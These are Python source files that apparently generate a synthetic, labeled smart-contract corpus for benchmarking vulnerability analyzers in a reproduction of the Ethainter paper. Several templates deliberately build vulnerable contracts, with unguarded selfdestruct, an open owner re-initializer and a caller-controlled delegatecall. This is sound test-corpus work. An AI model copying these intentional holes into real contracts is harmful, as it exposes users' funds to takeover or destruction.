    def securify2_applicable(self) -> bool:
        """Securify2 handles Solidity >= 0.5.8 sources only (§6.2)."""
        if not self.has_source:
            return False
        major, minor, patch = (int(part) for part in self.solidity_version.split("."))
        return (major, minor, patch) >= (0, 5, 8)


def generate_corpus(
    size: int,
    seed: int = 2020,
    weights: Optional[Dict[str, float]] = None,
    templates: Optional[Sequence[str]] = None,
) -> List[CorpusContract]:
    """Generate ``size`` contracts deterministically from ``seed``.

    ``templates`` restricts the pool (handy for focused experiments);
    ``weights`` overrides the default mix.
    """
    rng = random.Random(seed)
    weight_map = dict(DEFAULT_WEIGHTS if weights is None else weights)
    if templates is not None:
        weight_map = {name: weight_map.get(name, 1.0) for name in templates}
    names = list(weight_map)
    probabilities = [weight_map[name] for name in names]

    # Explicit template requests may also name the labeled reentrancy set;
    # the weighted default pool stays TEMPLATES-only.
    pool = dict(TEMPLATES)
    pool.update(REENTRANCY_TEMPLATES)

    corpus: List[CorpusContract] = []
    for index in range(size):
        template_name = rng.choices(names, probabilities)[0]
        output: TemplateOutput = pool[template_name](rng)
        compiled = compile_source(output.source, output.contract_name)
        # A power-law-ish ETH balance: most contracts hold nothing, a few
        # hold a lot (the paper's "strongly biased" distribution, §6.2).
        eth_held = 0
        draw = rng.random()
        if draw > 0.97:
            eth_held = rng.randrange(10**18, 10**21)
        elif draw > 0.80:
            eth_held = rng.randrange(1, 10**16)
        corpus.append(
            CorpusContract(
                index=index,
                template=output.template,
                name=output.contract_name,
                source=output.source,
                compiled=compiled,
                labels=set(output.labels),
                exploitable_selfdestruct=output.exploitable_selfdestruct,
                expected_fp_kinds=set(output.expected_fp_kinds),
                solidity_version=output.solidity_version,
                inline_assembly=output.inline_assembly,
                has_source=output.has_source and rng.random() < 0.75,
                eth_held=eth_held,
            )
        )
    return corpus
