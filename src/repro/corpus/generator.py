"""Seeded corpus generation.

``generate_corpus(size, seed)`` draws contracts from the template pool with
weights chosen so the corpus-level statistics resemble the paper's universe:
the vast majority of contracts are benign (the paper flags 0.04%–1.33% per
vulnerability over 240K mainnet contracts; a pure-benign majority at our
scale keeps flag rates in the low percent range), with a long tail of
vulnerable and adversarial templates.

``generate_mainnet(total, unique)`` layers the paper's §6.1 duplication
structure on top: ~38M deployed contracts collapse to ~240K unique
bytecodes, i.e. the deployed population is a heavily skewed fan-out over a
small unique set.  The synthetic mainnet draws ``unique`` distinct
contracts with :func:`generate_corpus`, then assigns the remaining
submissions to them with Zipf-like weights under a dedicated, recorded
duplication seed — the dedup-aware sweep benchmarks run against this shape.

Every contract is compiled on generation; a template whose instance fails to
compile is a generator bug and raises immediately.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set

from repro.corpus.templates import (
    REENTRANCY_TEMPLATES,
    TEMPLATES,
    TemplateOutput,
)
from repro.minisol import CompiledContract, compile_source

# Weights tuned so per-vulnerability flag rates land in the paper's
# low-single-digit-percent regime (§6.2 table).
DEFAULT_WEIGHTS: Dict[str, float] = {
    "safe_owned": 34.0,
    "safe_token": 25.0,
    "safe_wallet": 18.0,
    "guarded_delegatecall": 6.0,
    "checked_staticcall": 2.0,
    "open_selfdestruct": 1.2,
    "tainted_selfdestruct_direct": 0.25,
    "tainted_owner_simple": 1.5,
    "tainted_selfdestruct_storage": 0.3,
    "composite_victim": 0.9,
    "composite_registry": 0.7,
    "tainted_delegatecall": 0.35,
    "delegatecall_via_storage": 0.25,
    "unchecked_staticcall": 0.2,
    "fp_one_shot_init": 0.7,
    "fp_game_winner": 0.9,
    "kill_magic_value": 0.45,
    "dead_state_selfdestruct": 0.6,
    "nested_role_registry": 0.4,
    "large_dao": 3.0,
    "array_write_unchecked": 0.35,
    "array_write_checked": 0.3,
    "computed_flag_write": 0.2,
}


@dataclass
class CorpusContract:
    """A generated contract: source, bytecode, and ground truth."""

    index: int
    template: str
    name: str
    source: str
    compiled: CompiledContract
    labels: Set[str] = field(default_factory=set)
    exploitable_selfdestruct: bool = False
    expected_fp_kinds: Set[str] = field(default_factory=set)
    solidity_version: str = "0.4.24"
    inline_assembly: bool = False
    has_source: bool = True
    eth_held: int = 0

    @property
    def runtime(self) -> bytes:
        return self.compiled.runtime

    @property
    def is_vulnerable(self) -> bool:
        return bool(self.labels)

    @property
    def securify2_applicable(self) -> bool:
        """Securify2 handles Solidity >= 0.5.8 sources only (§6.2)."""
        if not self.has_source:
            return False
        major, minor, patch = (int(part) for part in self.solidity_version.split("."))
        return (major, minor, patch) >= (0, 5, 8)


def generate_corpus(
    size: int,
    seed: int = 2020,
    weights: Optional[Dict[str, float]] = None,
    templates: Optional[Sequence[str]] = None,
) -> List[CorpusContract]:
    """Generate ``size`` contracts deterministically from ``seed``.

    ``templates`` restricts the pool (handy for focused experiments);
    ``weights`` overrides the default mix.
    """
    rng = random.Random(seed)
    weight_map = dict(DEFAULT_WEIGHTS if weights is None else weights)
    if templates is not None:
        weight_map = {name: weight_map.get(name, 1.0) for name in templates}
    names = list(weight_map)
    probabilities = [weight_map[name] for name in names]

    # Explicit template requests may also name the labeled reentrancy set;
    # the weighted default pool stays TEMPLATES-only.
    pool = dict(TEMPLATES)
    pool.update(REENTRANCY_TEMPLATES)

    corpus: List[CorpusContract] = []
    for index in range(size):
        template_name = rng.choices(names, probabilities)[0]
        output: TemplateOutput = pool[template_name](rng)
        compiled = compile_source(output.source, output.contract_name)
        # A power-law-ish ETH balance: most contracts hold nothing, a few
        # hold a lot (the paper's "strongly biased" distribution, §6.2).
        eth_held = 0
        draw = rng.random()
        if draw > 0.97:
            eth_held = rng.randrange(10**18, 10**21)
        elif draw > 0.80:
            eth_held = rng.randrange(1, 10**16)
        corpus.append(
            CorpusContract(
                index=index,
                template=output.template,
                name=output.contract_name,
                source=output.source,
                compiled=compiled,
                labels=set(output.labels),
                exploitable_selfdestruct=output.exploitable_selfdestruct,
                expected_fp_kinds=set(output.expected_fp_kinds),
                solidity_version=output.solidity_version,
                inline_assembly=output.inline_assembly,
                has_source=output.has_source and rng.random() < 0.75,
                eth_held=eth_held,
            )
        )
    return corpus


@dataclass
class SyntheticMainnet:
    """A deployed-population view over a small unique contract set.

    ``uniques`` are the distinct contracts; ``assignments[i]`` is the index
    into ``uniques`` backing submission ``i``.  ``manifest`` records every
    knob (seeds, Zipf exponent, template mix, measured duplication) so a
    benchmark run is reproducible from the manifest alone.
    """

    uniques: List[CorpusContract]
    assignments: List[int]
    manifest: Dict[str, object]

    @property
    def total(self) -> int:
        return len(self.assignments)

    def contracts(self) -> List[CorpusContract]:
        """The deployed population, one entry per submission."""
        return [self.uniques[i] for i in self.assignments]

    def bytecodes(self) -> List[bytes]:
        return [self.uniques[i].compiled.runtime for i in self.assignments]


def generate_mainnet(
    total: int,
    unique: Optional[int] = None,
    seed: int = 2020,
    duplication_seed: Optional[int] = None,
    zipf_s: float = 1.1,
    weights: Optional[Dict[str, float]] = None,
    templates: Optional[Sequence[str]] = None,
) -> SyntheticMainnet:
    """Generate a ``total``-contract deployed population over ``unique``
    distinct bytecodes (default: ~10% of ``total``, at least 1).

    Content generation (``seed``) and duplication structure
    (``duplication_seed``, defaulting to ``seed``) use independent RNG
    streams, so the same unique set can be re-deployed under different
    duplication draws.  Every unique contract appears at least once; the
    remaining ``total - unique`` submissions are drawn with Zipf-like
    weights ``1 / (rank + 1) ** zipf_s`` over the unique ranks, then the
    deployment order is shuffled (duplicates interleave as on a real
    chain rather than clustering).
    """
    if total < 1:
        raise ValueError("total must be >= 1")
    if unique is None:
        unique = max(1, total // 10)
    if not 1 <= unique <= total:
        raise ValueError("unique must be in [1, total]")
    if duplication_seed is None:
        duplication_seed = seed

    uniques = generate_corpus(unique, seed=seed, weights=weights, templates=templates)

    dup_rng = random.Random(duplication_seed)
    ranks = list(range(unique))
    zipf_weights = [1.0 / (rank + 1) ** zipf_s for rank in ranks]
    assignments = list(ranks)  # every unique deployed at least once
    if total > unique:
        assignments.extend(
            dup_rng.choices(ranks, weights=zipf_weights, k=total - unique)
        )
    dup_rng.shuffle(assignments)

    template_mix: Dict[str, int] = {}
    for contract in uniques:
        template_mix[contract.template] = template_mix.get(contract.template, 0) + 1
    unique_bytecodes = len({c.compiled.runtime for c in uniques})
    manifest: Dict[str, object] = {
        "kind": "synthetic_mainnet",
        "total": total,
        "unique": unique,
        "unique_bytecodes": unique_bytecodes,
        "seed": seed,
        "duplication_seed": duplication_seed,
        "zipf_s": zipf_s,
        "dedup_ratio": total / unique,
        "duplicate_rate": (total - unique) / total,
        "template_mix": dict(sorted(template_mix.items())),
    }
    return SyntheticMainnet(uniques=uniques, assignments=assignments, manifest=manifest)
