"""Synthetic contract corpus with ground-truth vulnerability labels.

Substitutes for the paper's blockchain snapshots (240K unique mainnet
contracts; 882K Ropsten contracts).  Contracts are generated from
parameterized templates covering:

* the paper's illustration and every §3 vulnerability class,
* guarded/safe versions of each pattern (precision probes),
* realistic benign contracts (tokens, wallets, registries) that imprecise
  baselines flag ("unrestricted write" / "missing input validation" FPs),
* deliberately hard cases: one-shot initializers and game-style
  sender-comparison slots that Ethainter over-approximates (the Figure 6
  false-positive categories), and magic-value guards Ethainter-Kill cannot
  satisfy (the §6.1 failure modes).

Every contract carries its ground-truth label set, which lets the
benchmarks compute exact precision/recall where the paper relied on manual
inspection.
"""

from repro.corpus.bundles import (
    BUNDLE_TEMPLATES,
    BundleTemplateOutput,
)
from repro.corpus.generator import (
    CorpusContract,
    SyntheticMainnet,
    generate_corpus,
    generate_mainnet,
)
from repro.corpus.templates import (
    REENTRANCY_TEMPLATES,
    TEMPLATES,
    TemplateOutput,
)

__all__ = [
    "generate_corpus",
    "generate_mainnet",
    "CorpusContract",
    "SyntheticMainnet",
    "TEMPLATES",
    "REENTRANCY_TEMPLATES",
    "BUNDLE_TEMPLATES",
    "TemplateOutput",
    "BundleTemplateOutput",
]
