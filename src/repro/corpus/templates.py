"""Contract templates for the synthetic corpus.

Each template is a function ``(rng) -> TemplateOutput`` producing MiniSol
source plus ground truth.  Templates randomize identifier names, state
variable order (hence storage slots), decoy members, and guard style
(modifier vs. inline ``require``), so no two generated contracts share
bytecode, mirroring the "unique contract bytecodes" universe of §6.2.

Label semantics (ground truth, used to score analyses):

* ``labels`` — the set of §3 vulnerability kinds genuinely present,
* ``exploitable_selfdestruct`` — an attacker with no special state can
  actually destroy the contract (the Ethainter-Kill success criterion),
* ``expected_fp_kinds`` — kinds Ethainter is *expected* to over-report on
  this template (the Figure 6 false-positive categories we reproduce).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Set

from repro.core.vulnerabilities import (
    ACCESSIBLE_SELFDESTRUCT,
    REENTRANT_CALL,
    STATE_WRITE_AFTER_CALL,
    TAINTED_DELEGATECALL,
    TAINTED_OWNER,
    TAINTED_SELFDESTRUCT,
    UNCHECKED_STATICCALL,
)

_ADJECTIVES = [
    "Swift", "Crystal", "Nova", "Prime", "Atlas", "Echo", "Zen", "Lunar",
    "Solar", "Vertex", "Delta", "Omega", "Pixel", "Quantum", "Rapid", "Ultra",
]
_NOUNS = [
    "Vault", "Token", "Registry", "Market", "Fund", "Pool", "Bridge", "Wallet",
    "Exchange", "Lottery", "Auction", "Escrow", "Treasury", "Bank", "Store", "Hub",
]
_VAR_WORDS = [
    "owner", "admin", "manager", "curator", "operator", "controller",
    "guardian", "treasurer", "keeper", "master",
]


@dataclass
class TemplateOutput:
    """One generated contract plus ground truth."""

    template: str
    contract_name: str
    source: str
    labels: Set[str] = field(default_factory=set)
    exploitable_selfdestruct: bool = False
    expected_fp_kinds: Set[str] = field(default_factory=set)
    solidity_version: str = "0.4.24"
    inline_assembly: bool = False
    has_source: bool = True


def _name(rng: random.Random) -> str:
    return rng.choice(_ADJECTIVES) + rng.choice(_NOUNS) + str(rng.randrange(10, 99))


def _owner_var(rng: random.Random) -> str:
    return rng.choice(_VAR_WORDS)


def _version(rng: random.Random, modern_bias: float = 0.3) -> str:
    """Solidity version tag; only >=0.5.8 contracts are in Securify2's
    domain (under 3% of the paper's universe were; we use a higher share so
    the Fig. 7 experiment has a workable sample)."""
    if rng.random() < modern_bias:
        return rng.choice(["0.5.8", "0.5.11", "0.6.2"])
    return rng.choice(["0.4.18", "0.4.21", "0.4.24", "0.4.25", "0.5.0"])


def _decoys(rng: random.Random) -> str:
    """Benign filler members to vary bytecode and exercise the decompiler.

    Always includes an ``about()`` constant getter with a random value so
    every generated contract has unique runtime bytecode (the §6.2 universe
    counts unique bytecodes)."""
    pieces = [
        """
    function about() public returns (uint256) { return %d; }"""
        % rng.randrange(1, 1 << 48)
    ]
    if rng.random() < 0.7:
        pieces.append(
            """
    uint256 totalOps;
    function bump(uint256 by) public returns (uint256) {
        totalOps = totalOps + by;
        return totalOps;
    }"""
        )
    if rng.random() < 0.5:
        pieces.append(
            """
    function ping() public returns (uint256) { return %d; }"""
            % rng.randrange(1, 10_000)
        )
    if rng.random() < 0.4:
        pieces.append(
            """
    mapping(address => uint256) lastSeen;
    function touch() public { lastSeen[msg.sender] = %d; }"""
            % rng.randrange(1, 10_000)
        )
    return "".join(pieces)


# --------------------------------------------------------------------------
# Safe templates (precision probes & baseline-FP generators)
# --------------------------------------------------------------------------


def safe_owned(rng: random.Random) -> TemplateOutput:
    """Correctly guarded administrable contract: no vulnerabilities."""
    name = _name(rng)
    owner = _owner_var(rng)
    use_modifier = rng.random() < 0.5
    guard_mod = (
        """
    modifier onlyOwner() { require(msg.sender == %s); _; }"""
        % owner
        if use_modifier
        else ""
    )
    guard_attr = " onlyOwner" if use_modifier else ""
    guard_stmt = "" if use_modifier else "require(msg.sender == %s);\n        " % owner
    source = """
contract %(name)s {
    address %(owner)s;
    uint256 config;%(guard_mod)s

    constructor() { %(owner)s = msg.sender; }

    function setConfig(uint256 v) public%(guard_attr)s {
        %(guard_stmt)sconfig = v;
    }
    function transferOwnership(address next) public%(guard_attr)s {
        %(guard_stmt)s%(owner)s = next;
    }
    function shutdown() public%(guard_attr)s {
        %(guard_stmt)sselfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "guard_mod": guard_mod,
        "guard_attr": guard_attr,
        "guard_stmt": guard_stmt,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="safe_owned",
        contract_name=name,
        source=source,
        solidity_version=_version(rng),
    )


def safe_token(rng: random.Random) -> TemplateOutput:
    """ERC20-style token: benign, but a classic imprecise-baseline FP (the
    paper's §6.2 Securify example: unrestricted write / missing input
    validation on the balances mapping).

    Variants: some tokens have an owner with a guarded ``mint`` (giving the
    conservative-storage ablation an owner sink to smear onto) and some of
    those also a guarded ``close`` (giving it a selfdestruct to inflate).
    """
    name = _name(rng)
    owner = _owner_var(rng)
    has_owner = rng.random() < 0.45
    has_close = has_owner and rng.random() < 0.5
    owner_decl = "\n    address %s;" % owner if has_owner else ""
    owner_init = "\n        %s = msg.sender;" % owner if has_owner else ""
    mint = (
        """
    function mint(address to, uint256 value) public {
        require(msg.sender == %(owner)s);
        balances[to] += value;
        supply += value;
    }"""
        % {"owner": owner}
        if has_owner
        else ""
    )
    close = (
        """
    function close() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }"""
        % {"owner": owner}
        if has_close
        else ""
    )
    source = """
contract %(name)s {
    event Transfer(address to, uint256 value);
    mapping(address => uint256) balances;
    mapping(address => mapping(address => uint256)) allowed;%(owner_decl)s
    uint256 supply;

    constructor() {%(owner_init)s
        supply = %(supply)d;
        balances[msg.sender] = %(supply)d;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        require(balances[msg.sender] >= value);
        balances[to] += value;
        balances[msg.sender] -= value;
        emit Transfer(to, value);
        return true;
    }
    function approve(address spender, uint256 value) public returns (bool) {
        allowed[msg.sender][spender] = value;
        return true;
    }
    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(balances[from] >= value);
        require(allowed[from][msg.sender] >= value);
        balances[to] += value;
        balances[from] -= value;
        allowed[from][msg.sender] -= value;
        return true;
    }%(mint)s%(close)s%(decoys)s
}
""" % {
        "name": name,
        "owner_decl": owner_decl,
        "owner_init": owner_init,
        "mint": mint,
        "close": close,
        "supply": rng.randrange(10**6, 10**9),
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="safe_token",
        contract_name=name,
        source=source,
        solidity_version=_version(rng),
    )


def safe_wallet(rng: random.Random) -> TemplateOutput:
    """Deposit/withdraw wallet with per-user balances: benign."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    mapping(address => uint256) deposits;
    address %(owner)s;

    constructor() { %(owner)s = msg.sender; }

    function deposit() public {
        deposits[msg.sender] += msg.value;
    }
    function withdraw(uint256 amount) public {
        require(deposits[msg.sender] >= amount);
        deposits[msg.sender] -= amount;
        transfer(msg.sender, amount);
    }
    function sweep() public {
        require(msg.sender == %(owner)s);
        transfer(%(owner)s, balance(this));
    }%(close)s%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "close": (
            """
    function close() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }"""
            % {"owner": owner}
            if rng.random() < 0.35
            else ""
        ),
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="safe_wallet",
        contract_name=name,
        source=source,
        solidity_version=_version(rng),
    )


def guarded_delegatecall(rng: random.Random) -> TemplateOutput:
    """Owner-guarded delegatecall proxy: benign."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    address %(owner)s;
    address implementation;

    constructor(address impl) {
        %(owner)s = msg.sender;
        implementation = impl;
    }
    function upgrade(address impl) public {
        require(msg.sender == %(owner)s);
        implementation = impl;
    }
    function forward() public {
        delegatecall(implementation);
    }%(credits)s%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        # Some proxies also track per-user credit in a mapping: a tainted
        # unknown-address store that the conservative-storage ablation
        # smears onto the implementation slot (Figure 8c's delegatecall bar).
        "credits": (
            """
    mapping(address => uint256) credits;
    function credit(address who, uint256 v) public { credits[who] = v; }"""
            if rng.random() < 0.3
            else ""
        ),
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="guarded_delegatecall",
        contract_name=name,
        source=source,
        solidity_version=_version(rng),
    )


def checked_staticcall(rng: random.Random) -> TemplateOutput:
    """Staticcall with the RETURNDATASIZE fix of §3.5: benign."""
    name = _name(rng)
    source = """
contract %(name)s {
    address walletAddr;
    constructor(address w) { walletAddr = w; }
    function isValidSignature(address wallet) public returns (uint256) {
        return staticcall_checked(wallet);
    }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="checked_staticcall",
        contract_name=name,
        source=source,
        solidity_version=_version(rng, modern_bias=0.8),
    )


# --------------------------------------------------------------------------
# Vulnerable templates (§2, §3)
# --------------------------------------------------------------------------


def open_selfdestruct(rng: random.Random) -> TemplateOutput:
    """§3.3: unguarded selfdestruct to a fixed beneficiary."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    address %(owner)s;
    constructor() { %(owner)s = msg.sender; }
    function close() public {
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="open_selfdestruct",
        contract_name=name,
        source=source,
        labels={ACCESSIBLE_SELFDESTRUCT},
        exploitable_selfdestruct=True,
        solidity_version=_version(rng),
    )


def tainted_selfdestruct_direct(rng: random.Random) -> TemplateOutput:
    """Selfdestruct with caller-supplied beneficiary: accessible + tainted."""
    name = _name(rng)
    source = """
contract %(name)s {
    uint256 opened;
    constructor() { opened = 1; }
    function refundAndClose(address to) public {
        selfdestruct(to);
    }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="tainted_selfdestruct_direct",
        contract_name=name,
        source=source,
        labels={ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        exploitable_selfdestruct=True,
        solidity_version=_version(rng),
    )


def tainted_owner_simple(rng: random.Random) -> TemplateOutput:
    """§3.1: public (re)initializer lets anyone become owner."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    address %(owner)s;
    uint256 funds;

    function init(address first) public {
        %(owner)s = first;
    }
    function setFunds(uint256 v) public {
        require(msg.sender == %(owner)s);
        funds = v;
    }
    function destroy() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="tainted_owner_simple",
        contract_name=name,
        source=source,
        labels={TAINTED_OWNER, ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        exploitable_selfdestruct=True,
        solidity_version=_version(rng),
    )


def tainted_selfdestruct_storage(rng: random.Random) -> TemplateOutput:
    """§3.4: beneficiary (administrator) freely settable, selfdestruct
    itself properly owner-guarded: tainted but NOT accessible."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    address %(owner)s;
    address administrator;

    constructor() { %(owner)s = msg.sender; }

    function initAdmin(address admin) public {
        administrator = admin;
    }
    function close() public {
        require(msg.sender == %(owner)s);
        selfdestruct(administrator);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="tainted_selfdestruct_storage",
        contract_name=name,
        source=source,
        labels={TAINTED_SELFDESTRUCT},
        exploitable_selfdestruct=False,
        solidity_version=_version(rng),
    )


def composite_victim(rng: random.Random) -> TemplateOutput:
    """The paper's §2 illustration: user -> admin -> owner -> kill chain."""
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    mapping(address => bool) admins;
    mapping(address => bool) users;
    address %(owner)s;

    modifier onlyAdmins() { require(admins[msg.sender]); _; }
    modifier onlyUsers() { require(users[msg.sender]); _; }

    function registerSelf() public {
        users[msg.sender] = true;
    }
    function referUser(address user) public onlyUsers {
        users[user] = true;
    }
    function referAdmin(address adm) public onlyUsers {
        admins[adm] = true;
    }
    function changeOwner(address o) public onlyAdmins {
        %(owner)s = o;
    }
    function kill() public onlyAdmins {
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    # NOTE: the owner slot does get tainted, but Victim never compares it
    # against msg.sender in a guard (its guards are mapping lookups), so it
    # is not a §4.5 computed sink — the vulnerability classes here are the
    # two selfdestruct ones, exactly as the paper's §2 narrative says.
    return TemplateOutput(
        template="composite_victim",
        contract_name=name,
        source=source,
        labels={ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        exploitable_selfdestruct=True,
        solidity_version=_version(rng),
    )


def composite_registry(rng: random.Random) -> TemplateOutput:
    """Two-step composite: self-registration compromises a member guard."""
    name = _name(rng)
    source = """
contract %(name)s {
    mapping(address => bool) members;
    address treasury;

    constructor() { treasury = msg.sender; }

    function join() public {
        members[msg.sender] = true;
    }
    function retire() public {
        require(members[msg.sender]);
        selfdestruct(treasury);
    }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="composite_registry",
        contract_name=name,
        source=source,
        labels={ACCESSIBLE_SELFDESTRUCT},
        exploitable_selfdestruct=True,
        solidity_version=_version(rng),
    )


def tainted_delegatecall(rng: random.Random) -> TemplateOutput:
    """§3.2: caller-controlled delegatecall target."""
    name = _name(rng)
    inline_assembly = rng.random() < 0.6  # the buggy pattern typically
    # appears in inline assembly (§6.2), which source-level tools miss.
    source = """
contract %(name)s {
    uint256 version;
    constructor() { version = %(version)d; }
    function migrate(address delegate) public {
        delegatecall(delegate);
    }%(decoys)s
}
""" % {
        "name": name,
        "version": rng.randrange(1, 9),
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="tainted_delegatecall",
        contract_name=name,
        source=source,
        labels={TAINTED_DELEGATECALL},
        solidity_version=_version(rng),
        inline_assembly=inline_assembly,
    )


def delegatecall_via_storage(rng: random.Random) -> TemplateOutput:
    """Composite delegatecall: target parked in storage by an open setter."""
    name = _name(rng)
    source = """
contract %(name)s {
    address handler;
    function setHandler(address h) public {
        handler = h;
    }
    function execute() public {
        delegatecall(handler);
    }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="delegatecall_via_storage",
        contract_name=name,
        source=source,
        labels={TAINTED_DELEGATECALL},
        solidity_version=_version(rng),
        inline_assembly=rng.random() < 0.5,
    )


def unchecked_staticcall(rng: random.Random) -> TemplateOutput:
    """§3.5: the 0x signature-validation bug pattern."""
    name = _name(rng)
    source = """
contract %(name)s {
    address registry;
    constructor(address r) { registry = r; }
    function isValidSignature(address wallet) public returns (uint256) {
        return staticcall_unchecked(wallet);
    }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="unchecked_staticcall",
        contract_name=name,
        source=source,
        labels={UNCHECKED_STATICCALL},
        solidity_version=_version(rng, modern_bias=0.9),
        inline_assembly=True,  # Solidity assembly block in the original
    )


# --------------------------------------------------------------------------
# Hard cases: Ethainter false positives & Kill failures (Figure 6 / §6.1)
# --------------------------------------------------------------------------


def fp_one_shot_init(rng: random.Random) -> TemplateOutput:
    """One-shot initializer guarded by a flag the constructor sets.

    Actually safe (the flag is already 1 on-chain), but the flag equality is
    a non-sender guard (Uguard-NDS) so Ethainter flags a tainted owner —
    the Figure 6 "complex path condition" FP category.
    """
    name = _name(rng)
    owner = _owner_var(rng)
    source = """
contract %(name)s {
    address %(owner)s;
    uint256 initialized;

    constructor() {
        %(owner)s = msg.sender;
        initialized = 1;
    }
    function init(address first) public {
        require(initialized == 0);
        %(owner)s = first;
        initialized = 1;
    }
    function destroy() public {
        require(msg.sender == %(owner)s);
        selfdestruct(%(owner)s);
    }%(decoys)s
}
""" % {
        "name": name,
        "owner": owner,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="fp_one_shot_init",
        contract_name=name,
        source=source,
        labels=set(),  # genuinely safe once deployed
        exploitable_selfdestruct=False,
        expected_fp_kinds={TAINTED_OWNER, ACCESSIBLE_SELFDESTRUCT, TAINTED_SELFDESTRUCT},
        solidity_version=_version(rng),
    )


def fp_game_winner(rng: random.Random) -> TemplateOutput:
    """A sender-compared slot that is intentionally world-writable (a game's
    current-winner slot): Ethainter reports tainted owner; manual inspection
    says working-as-intended — the Figure 6 "not an owner variable" FP."""
    name = _name(rng)
    source = """
contract %(name)s {
    address lastWinner;
    uint256 round;

    function play(address beneficiary) public {
        lastWinner = beneficiary;
        round += 1;
    }
    function claimBonus() public returns (uint256) {
        require(msg.sender == lastWinner);
        return round;
    }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="fp_game_winner",
        contract_name=name,
        source=source,
        labels=set(),
        expected_fp_kinds={TAINTED_OWNER},
        solidity_version=_version(rng),
    )


def kill_magic_value(rng: random.Random) -> TemplateOutput:
    """Accessible selfdestruct behind a magic-value check.

    A true positive (the magic constant is public on-chain), but
    Ethainter-Kill's argument heuristics cannot guess it — one of the §6.1
    automated-exploitation failure classes.
    """
    name = _name(rng)
    magic = rng.randrange(10**9, 10**12)
    source = """
contract %(name)s {
    address payout;
    constructor() { payout = msg.sender; }
    function emergency(uint256 code) public {
        require(code == %(magic)d);
        selfdestruct(payout);
    }%(decoys)s
}
""" % {
        "name": name,
        "magic": magic,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="kill_magic_value",
        contract_name=name,
        source=source,
        labels={ACCESSIBLE_SELFDESTRUCT},
        exploitable_selfdestruct=False,  # not with heuristic arguments
        solidity_version=_version(rng),
    )


def dead_state_selfdestruct(rng: random.Random) -> TemplateOutput:
    """Selfdestruct behind a state check that can never pass.

    ``active`` is pinned to 1 in the constructor and never changed, so the
    ``require(active == 2)`` gate is dead — but a flag-equality guard is
    non-sender (Uguard-NDS), so Ethainter reports an accessible
    selfdestruct.  A Figure 6 "complex path condition"-style FP, and a §6.1
    Kill failure (the plan executes but every transaction reverts)."""
    name = _name(rng)
    source = """
contract %(name)s {
    address sink;
    uint256 active;
    constructor() { sink = msg.sender; active = 1; }
    function cleanup() internal {
        selfdestruct(sink);
    }
    function decommission() public {
        require(active == 2);
        cleanup();
    }
    function status() public returns (uint256) { return active; }%(decoys)s
}
""" % {
        "name": name,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="dead_state_selfdestruct",
        contract_name=name,
        source=source,
        labels=set(),  # the gate is genuinely dead: not exploitable
        exploitable_selfdestruct=False,
        expected_fp_kinds={ACCESSIBLE_SELFDESTRUCT},
        solidity_version=_version(rng),
    )


def nested_role_registry(rng: random.Random) -> TemplateOutput:
    """Role system on a *nested* mapping with an unguarded grant.

    Exercises the DSA-Lookup chain of Figure 4 (hash of a hash) and is a
    §6.1 Kill-failure case: the exploit needs a specific role constant the
    argument heuristics cannot pair with the attacker address.
    """
    name = _name(rng)
    role = rng.randrange(1, 6)
    source = """
contract %(name)s {
    mapping(address => mapping(uint256 => bool)) roles;
    address treasury;

    constructor() {
        treasury = msg.sender;
        roles[msg.sender][%(role)d] = true;
    }
    function grant(address who, uint256 role) public {
        roles[who][role] = true;
    }
    function shutdown() public {
        require(roles[msg.sender][%(role)d]);
        selfdestruct(treasury);
    }%(decoys)s
}
""" % {
        "name": name,
        "role": role,
        "decoys": _decoys(rng),
    }
    return TemplateOutput(
        template="nested_role_registry",
        contract_name=name,
        source=source,
        labels={ACCESSIBLE_SELFDESTRUCT},
